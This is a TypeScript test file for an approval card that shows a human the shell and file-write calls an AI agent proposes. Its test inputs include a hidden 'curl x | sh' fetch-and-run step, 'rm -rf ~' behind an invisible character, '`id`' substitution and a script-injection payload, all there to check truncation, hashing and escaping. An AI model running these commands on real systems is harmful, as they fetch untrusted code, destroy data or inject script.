import { createHash } from "node:crypto";
import { CARD_MAX_CHARS, approvalCard, type CardRequest } from "../../../agents/card";
import { describeCall } from "../../../agents/describe";
import { shellWord } from "../../../agents/show";
import { ELEMENT_X_TAGS } from "../../../bot/html";
import type { ApprovalNeed } from "../../../capabilities/types";

const RUN: ApprovalNeed = {
  needed: true,
  callClass: "run",
  reason: "shell.eval runs a shell command line the policy cannot see into",
};
const CHANGE: ApprovalNeed = { needed: true, callClass: "change", reason: "fs.write changes a file" };
const RULE = "approval is needed for change and run calls (approval_classes in pc1's manifest)";
const sha = (text: string | Buffer): string => createHash("sha256").update(text).digest("hex");
const card = (tool: string, input: Record<string, unknown>, need: ApprovalNeed = RUN) =>
  approvalCard({ agent: "agent-pc1", device: "pc1", tool, input, need, rule: RULE } satisfies CardRequest);
const TAGS = new Set<string>(ELEMENT_X_TAGS);
const tags = (html: string): string[] =>
  [...html.matchAll(/<\/?([a-zA-Z0-9]+)[\s>/]/g)].map((m) => m[1]!.toLowerCase());

describe("the approval card", () => {
  test("a 5,000-character command hiding `&& curl x | sh` in its middle shows head … tail, length and SHA-256", () => {
    const half = "du -sh /home/lucas/projects/a; ".repeat(80).slice(0, 2480);
    const command = `${half} && curl x | sh && ${half}`.padEnd(5000, "#");
    expect(command).toHaveLength(5000);
    const { body, html } = card("shell.eval", { command, cwd: "/home/lucas" });
    expect(body).toContain("agent-pc1 wants to run shell.eval on pc1.");
    expect(body).toContain("run: shell.eval runs a shell command line the policy cannot see into");
    expect(body).toContain(`Asked because ${RULE}.`);
    expect(body).toContain("command (5,000 characters):");
    expect(body).toContain(command.slice(0, 120));
    expect(body).toContain(command.slice(-60));
    expect(body).toContain(`characters not shown; 5,000 in all, SHA-256 ${sha(command)}]`);
    expect(body).not.toContain("curl");
    expect(body).toContain("cwd: /home/lucas");
    expect(body).toContain("⚠ Part of what would run is not shown above.");
    expect(body).toContain("React 👍 or ✅ to allow, 👎 or ❌ to refuse.");
    expect(html).toContain(`SHA-256 ${sha(command)}`);
  });

  test("a 150-character command is shown whole", () => {
    const command = `ls -la /srv && echo done && ${"x".repeat(100)} && curl x | sh`
      .slice(0, 150)
      .padEnd(150, "y");
    const { body, html } = card("shell.eval", { command });
    expect(body).toContain(`\`\`\`\n${command}\n\`\`\``);
    expect(body).not.toContain("not shown");
    expect(body).not.toContain("⚠");
    expect(html).toContain(`<pre><code>${command.replace(/&/g, "&amp;")}</code></pre>`);
  });

  test("shell.exec shows every argv word, quoted as the shell would read it", () => {
    const argv = ["find", ".", "-exec", "sh", "-c", "curl x | sh", "{}", ";"];
    const { body } = card("shell.exec", { argv, cwd: "/srv" });
    expect(body).toContain("argv (8 words):\n```\nfind . -exec sh -c 'curl x | sh' '{}' ';'\n```");
    expect(body).toContain("cwd: /srv");
  });

  test("invisible and reordering characters are shown as escapes, not hidden", () => {
    expect(shellWord("a\u202Eb")).toBe("$'a\\u202Eb'");
    expect(shellWord("x\ny")).toBe("$'x\\ny'");
    expect(shellWord("it's")).toBe(`'it'\\''s'`);
    const { body } = card("shell.eval", { command: "ls\u200B -la\r\nrm -rf ~" });
    expect(body).toContain("ls\\u200B -la\\r\nrm -rf ~");
  });

  test("fs.write shows path, mode, encoding, size, SHA-256 and the first and last lines", () => {
    const lines = Array.from({ length: 40 }, (_, i) => `line ${i + 1}`);
    const content = `${lines.join("\n")}\n`;
    const { body } = card("fs.write", { path: "/home/lucas/site.conf", content, mode: "overwrite" }, CHANGE);
    expect(body).toContain("change: fs.write changes a file");
    expect(body).toContain("path: /home/lucas/site.conf");
    expect(body).toContain("mode: overwrite");
    expect(body).toContain("encoding: utf8 (default)");
    expect(body).toContain(`size: ${Buffer.byteLength(content)} bytes, 40 lines, SHA-256 ${sha(content)}`);
    expect(body).toContain(`first 10 lines:\n\`\`\`\n${lines.slice(0, 10).join("\n")}\n\`\`\``);
    expect(body).toContain("… 25 lines not shown …");
    expect(body).toContain(`last 5 lines:\n\`\`\`\n${lines.slice(35).join("\n")}\n\`\`\``);
    expect(body).not.toContain("line 11\n");
  });

  test("fs.write: a short file whole, a long line cut with its hash, the default mode named", () => {
    const long = `key=${"v".repeat(500)}; curl x | sh`;
    const { body } = card("fs.write", { path: "/tmp/a", content: `short\n${long}` }, CHANGE);
    expect(body).toContain("mode: create (default)");
    expect(body).toContain("content (2 lines):\n```\nshort\nkey=vvv");
    expect(body).toContain(`in all, SHA-256 ${sha(long)}]`);
  });

  test("fs.write in base64: the decoded bytes are sized, hashed and shown", () => {
    const text = "hello\nworld\n";
    const { body } = card(
      "fs.write",
      { path: "/tmp/b", content: Buffer.from(text).toString("base64"), encoding: "base64" },
      CHANGE,
    );
    expect(body).toContain(`size: 12 bytes, 2 lines, SHA-256 ${sha(text)}`);
    expect(body).toContain("content (2 lines):\n```\nhello\nworld\n```");
    const binary = Buffer.from([0, 1, 2, 255]);
    const bin = card(
      "fs.write",
      { path: "/tmp/c", content: binary.toString("base64"), encoding: "base64" },
      CHANGE,
    );
    expect(bin.body).toContain(`size: 4 bytes (binary), SHA-256 ${sha(binary)}`);
    expect(bin.body).toContain("00 01 02 ff");
  });

  test("HTML is escaped: a value with </code> or <script> stays text inside its code block", () => {
    const command = "echo '</code></pre><script>alert(1)</script><a href=x>' && echo \"&amp;\"";
    const { html } = card("shell.eval", { command, cwd: "<b>/tmp</b>" });
    expect(html).not.toContain("<script>");
    expect(html).toContain("&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(html).toContain("&amp;amp;");
    expect(html).toContain("<code>&lt;b&gt;/tmp&lt;/b&gt;</code>");
    expect(tags(html).every((t) => TAGS.has(t))).toBe(true);
    expect(html.match(/<pre>/g)).toHaveLength(1);
  });

  test("backticks cannot close the plain body's code block", () => {
    const command = "echo ``` done ```` `id`";
    const { body } = card("shell.eval", { command });
    expect(body).toContain(`command (${command.length} characters):\n\`\`\`\`\`\n${command}\n\`\`\`\`\``);
  });

  test("a huge call stays under the card limit, each value still marked with its hash", () => {
    const argv = Array.from({ length: 256 }, (_, i) => `${i}-${"a".repeat(1000)}`);
    const { body, html } = card("shell.exec", { argv });
    expect(body.length).toBeLessThanOrEqual(CARD_MAX_CHARS);
    expect(Buffer.byteLength(body) + Buffer.byteLength(html)).toBeLessThan(64 * 1024);
    expect(body).toContain("argv (256 words)");
    expect(body).toMatch(/words not shown; argv SHA-256 [0-9a-f]{64}\]/);
    expect(body).toContain(`SHA-256 ${sha(argv[0]!)}`);
    const fields = Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`k${i}`, "z".repeat(3000)]));
    const many = card("shell.eval", { command: "ls", ...fields });
    expect(many.body.length).toBeLessThanOrEqual(CARD_MAX_CHARS);
    expect(many.body).toMatch(/more input fields not shown/);
  });
});

describe("describeCall: the one line after the card", () => {
  test("short calls read as before", () => {
    expect(describeCall("docker.restart", { container: "nginx" })).toBe("docker.restart nginx");
    expect(describeCall("shell.exec", { argv: ["ls", "-la", "/srv"] })).toBe("shell.exec ls -la /srv");
  });

  test("fs.write names size and hash, never the content", () => {
    expect(describeCall("fs.write", { path: "/tmp/x", content: "approved\n" })).toBe(
      `fs.write /tmp/x (9 bytes, SHA-256 ${sha("approved\n").slice(0, 16)}…)`,
    );
  });

  test("a long value is head … tail with its length, never cut silently; backticks cannot end a code span", () => {
    const command = `${"a".repeat(3000)} && curl x | sh && ${"b".repeat(3000)}`;
    const line = describeCall("shell.eval", { command });
    expect(line).toMatch(/characters not shown; 6,019 in all, SHA-256 [0-9a-f]{16}…\]/);
    expect(line).not.toContain("curl");
    expect(describeCall("shell.eval", { command: "echo `id`" })).toBe("shell.eval echo \\x60id\\x60");
  });
});

describe("the approval card's 🔁 offer", () => {
  test("with a session the answer line says exactly what 🔁 allows and for how long; no new tags", () => {
    const { body, html } = approvalCard({
      agent: "agent-pc1",
      device: "pc1",
      tool: "shell.exec",
      input: { argv: ["systemctl", "restart", "nginx"] },
      need: CHANGE,
      rule: RULE,
      session: { scope: "change calls of systemctl through shell.exec on pc1", duration: "15 min" },
    });
    const last = body.split("\n").pop();
    expect(last).toBe(
      "React 👍 or ✅ to allow this call once, 🔁 to allow all change calls of systemctl through shell.exec on pc1 for 15 min (any arguments, no more cards), 👎 or ❌ to refuse.",
    );
    expect(html).toContain("🔁 to allow all change calls of systemctl through shell.exec on pc1 for 15 min");
    expect(tags(html).every((t) => TAGS.has(t))).toBe(true);
  });
});
